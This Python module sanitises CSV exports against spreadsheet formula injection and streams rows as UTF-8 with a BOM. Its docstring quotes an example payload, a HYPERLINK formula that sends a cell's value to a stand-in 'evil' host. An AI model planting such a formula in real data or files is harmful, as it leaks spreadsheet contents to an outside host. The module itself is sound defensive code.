"""Writing CSV that a spreadsheet cannot run: formula injection and streamed downloads.

A caller can type `=HYPERLINK("http://evil/?"&A1)` as a summary; a leader who opens the
export in Excel would run it. Every text cell goes through `safe_cell`, which puts a single
quote in front of anything a spreadsheet would read as a formula (OWASP's advice). Numbers
stay numbers: -3 is a value, not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

# What a spreadsheet treats as the start of a formula, including the full-width forms that
# some spreadsheets normalise to the ASCII ones.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_FIRST = frozenset(TRIGGERS)


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell: text that could start a formula gets a leading quote.

    Leading spaces are looked through (" =1+1" is caught too). None becomes an empty cell;
    numbers and booleans are returned unchanged.
    """
    if type(value) is str:  # most cells: one look at the first character (millions of cells)
        text = value
    elif value is None:
        return ""
    elif isinstance(value, bool | int | float):
        return value
    else:
        text = str(value)
    first = text[:1]
    if first in _FIRST or (first == " " and text.lstrip(" ")[:1] in _FIRST):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class _Echo:
    """A file-like object whose write returns the line, so csv.writer can feed a generator."""

    def write(self, text: str) -> str:
        return text


def stream_rows(header: list[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """CSV text one line at a time (a BOM first, so Excel reads UTF-8), every cell made safe.

    Nothing is collected in memory: a 100,000-call export streams as the rows are read.
    """
    writer = csv.writer(_Echo())
    yield "\ufeff"
    yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))
